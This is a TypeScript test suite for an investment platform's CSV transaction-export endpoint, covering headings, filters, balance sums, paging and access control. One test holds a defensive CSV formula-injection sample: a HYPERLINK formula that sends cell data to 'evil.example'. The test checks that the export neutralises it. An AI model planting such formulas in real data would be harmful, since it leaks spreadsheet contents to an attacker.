import { test } from '@japa/runner'
import { depositsAtOnce } from '#tests/bulk'
import { cents, format } from '#domain/money'
import { readCsv } from '#tests/functional/inputs/csv_reader'
import { oneOfEach } from '#tests/functional/transactions/one_of_each'
import {
  anInvestment,
  anInvestor,
  balancesOf,
  fund,
  granted,
  type Investor,
  type Json,
  theBanker,
  WALLETS,
} from '#tests/fixtures'
import { answersTo, INVESTORS_ONLY } from '#tests/unauthorized'

const HEADINGS = [
  ...['Reference', 'Type', 'Method', 'Amount (USD)', 'Balance change (USD)', 'Status'],
  ...['Requested', 'Decided', 'Cancelled by', 'Reason', 'Payment reference', 'Transaction ID'],
]

const exported = (who: Investor, query = '') => who.get(`/transaction/export${query}`)

test.group('GET /transaction/export', () => {
  test('answers a file with a dated name, its headings and one row a line', async ({ assert }) => {
    const investor = await anInvestor()
    await oneOfEach(investor)
    const { status, headers, text } = await exported(investor)
    assert.equal(status, 200)
    assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8')
    const today = new Date().toISOString().slice(0, 10)
    assert.equal(
      headers.get('content-disposition'),
      `attachment; filename="transactions-${today}.csv"`,
    )
    const [head, ...rows] = readCsv(text)
    assert.deepEqual(head, HEADINGS)
    const { body } = await investor.get('/transaction/all')
    const details: Json[] = []
    for (const { id } of body.data)
      details.push((await investor.get(`/transaction/${id}`)).body.data)
    assert.deepEqual(
      rows,
      details.map((line) => [
        line.reference,
        line.type,
        line.method,
        line.amount,
        line.amount.startsWith('-') || line.type === 'deposit' || line.type === 'earn'
          ? line.amount
          : `-${line.amount}`,
        line.status,
        line.createdAt,
        line.decidedAt ?? '',
        line.cancelledBy ?? '',
        line.reason ?? '',
        line.paymentReference ?? '',
        line.id,
      ]),
    )
  })

  test('holds what the list holds under the same filters, and nobody else’s', async ({
    assert,
  }) => {
    const [investor, other] = await Promise.all([anInvestor(), anInvestor()])
    await Promise.all([oneOfEach(investor), oneOfEach(other)])
    const today = new Date().toISOString().slice(0, 10)
    for (const query of [
      '',
      '?type=deposit,earn',
      '?status=pending',
      '?method=bitcoin,ETH',
      '?q=-',
      `?from=${today}&to=${today}&type=withdrawal`,
      '?to=2020-01-01',
    ]) {
      const { body } = await investor.get(`/transaction/all${query}`)
      const [, ...rows] = readCsv((await exported(investor, query)).text)
      assert.deepEqual(
        rows.map((cells) => cells.at(-1)),
        body.data.map(({ id }: Json) => id),
        query,
      )
    }
  })

  test('sums to the available balance, earnings included, at every status of a row', async ({
    assert,
  }) => {
    const [investor, banker] = await Promise.all([anInvestor(), theBanker()])
    const { withdrawal } = await oneOfEach(investor)
    await granted(investor.post('/deposit', { method: 'SOL', amount: '1000.00' }))
    const decline = { reason: 'Ask again tomorrow.' }
    await granted(banker.patch(`/admin/withdrawals/${withdrawal.id}/decline`, decline))
    const paid = { method: 'bitcoin', amount: '7.25', address: WALLETS.bitcoin }
    const { id } = await granted(investor.post('/withdrawal', paid))
    await granted(banker.patch(`/admin/withdrawals/${id}/processing`))
    await granted(banker.patch(`/admin/withdrawals/${id}/approve`))
    const ended = await anInvestment(investor, '40.00')
    await granted(banker.patch(`/admin/investments/${ended.id}/end`))
    const [head = [], ...rows] = readCsv((await exported(investor)).text)
    const column = head.indexOf('Balance change (USD)')
    const sum = rows.reduce(
      (total, cells) => total + BigInt((cells[column] ?? '').replace('.', '')),
      0n,
    )
    assert.equal(format(cents(sum)), '466.25')
    assert.equal((await balancesOf(investor)).balance, '466.25')
  })

  test('has no cell that a spreadsheet runs, whatever staff typed as reference or reason (T44)', async ({
    assert,
  }) => {
    const [investor, banker] = await Promise.all([anInvestor(), theBanker()])
    await fund(investor, 'BTC', '50.00')
    const formula = '=HYPERLINK("https://evil.example/?x="&A2,"receipt")'
    const wish = { method: 'bitcoin', amount: '7.25', address: WALLETS.bitcoin }
    const [paid, refused] = [
      await granted(investor.post('/withdrawal', wish)),
      await granted(investor.post('/withdrawal', wish)),
    ]
    await granted(
      banker.patch(`/admin/withdrawals/${paid.id}/approve`, { paymentReference: formula }),
    )
    await granted(banker.patch(`/admin/withdrawals/${refused.id}/decline`, { reason: formula }))
    const [head = [], ...rows] = readCsv((await exported(investor)).text)
    for (const [column, id] of [
      ['Payment reference', paid.id],
      ['Reason', refused.id],
    ])
      assert.equal(rows.find((cells) => cells.at(-1) === id)?.[head.indexOf(column)], `'${formula}`)
  })

  test('continues past one page, without a gap or a row twice', async ({ assert }) => {
    const investor = await anInvestor()
    const ids = await depositsAtOnce(investor, 2_345)
    const [, ...rows] = readCsv((await exported(investor)).text)
    assert.deepEqual(
      rows.map((cells) => cells.at(-1)),
      [...ids].sort().reverse(),
    )
  })

  test('answers the headings alone where there is nothing', async ({ assert }) => {
    assert.deepEqual(readCsv((await exported(await anInvestor())).text), [HEADINGS])
  })

  test('refuses a filter that is none', async ({ assert }) => {
    const investor = await anInvestor()
    for (const query of ['?type=x', '?status=', '?method=cash', '?from=now', '?to=0', '?q[]=x']) {
      const { status, body } = await exported(investor, query)
      assert.deepEqual([status, body.code], [422, 'validation_failed'], query)
    }
  })

  test('is for signed-in investors only', async ({ assert }) => {
    assert.deepEqual(await answersTo(INVESTORS_ONLY, 'GET', '/transaction/export'), INVESTORS_ONLY)
  })
})
